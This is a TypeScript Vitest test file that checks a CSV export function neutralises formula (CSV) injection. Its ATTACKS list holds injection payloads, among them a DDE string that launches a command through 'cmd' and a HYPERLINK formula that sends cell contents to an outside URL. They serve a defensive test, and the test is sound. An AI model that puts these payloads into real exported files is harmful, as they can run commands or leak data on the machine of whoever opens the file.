import { describe, expect, it } from 'vitest';
import { formatCsv } from '../../src/export/csv.ts';

/** The cells that a program makes of a file which it splits at `separator`, minding quotes or not. */
function cellsOf(csv: string, separator: string, mindsQuotes: boolean): string[] {
  const text = csv.replace(/^\ufeff/, '');
  if (!mindsQuotes) return text.split(new RegExp(`[${separator}\r\n]`)).map((cell) => cell.replaceAll('"', ''));
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const sign = text[i]!;
    if (sign === '"') {
      if (isQuoted && text[i + 1] === '"') cell += text[++i]!;
      else isQuoted = !isQuoted;
    } else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += sign;
  }
  return [...cells, cell];
}

const evaluated = (cell: string) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell);

const ATTACKS = [
  '=1+1',
  '+420 777 000 111',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '""=1+1',
  'text","=1+1',
  'text;=1+1',
  'text; =1+1',
  'text,=1+1',
  'text\t=1+1',
  'text|@SUM(1)',
  'text";"=1+1',
  'text\n=1+1',
  'text\r\n"=1+1"',
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("http://example.org?"&A1,"x")`,
];

describe('a table as CSV', () => {
  it('keeps what is written, in rows that end in CRLF', () => {
    const csv = formatCsv(
      ['Jméno', 'Zpráva'],
      [
        ['Řehoř "Ř" Žák', 'první; druhý\nřádek'],
        ['', 'a-b, c=d'],
      ],
    );
    expect(csv).toBe('\ufeff"Jméno";"Zpráva"\r\n"Řehoř ""Ř"" Žák";"první; druhý\nřádek"\r\n"";"a-b, c=d"\r\n');
    expect(cellsOf(csv, ';', true).filter(Boolean)).toContain('první; druhý\nřádek');
  });

  it.each(ATTACKS)('has no cell that is evaluated: %j', (attack) => {
    for (const separator of [';', ',', '\t', '|', ':'])
      for (const mindsQuotes of [true, false]) {
        const cells = cellsOf(formatCsv(['a', 'b'], [['x', attack]]), separator, mindsQuotes);
        expect(cells.filter(evaluated)).toEqual([]);
      }
  });

  it('would be caught without the guard', () => {
    for (const attack of ATTACKS) {
      const bare = `"x";"${attack.replaceAll('"', '""')}"\r\n`;
      const found = [';', ',', '\t', '|', ':'].some((separator) =>
        [true, false].some((mindsQuotes) => cellsOf(bare, separator, mindsQuotes).some(evaluated)),
      );
      expect(found, attack).toBe(true);
    }
  });
});
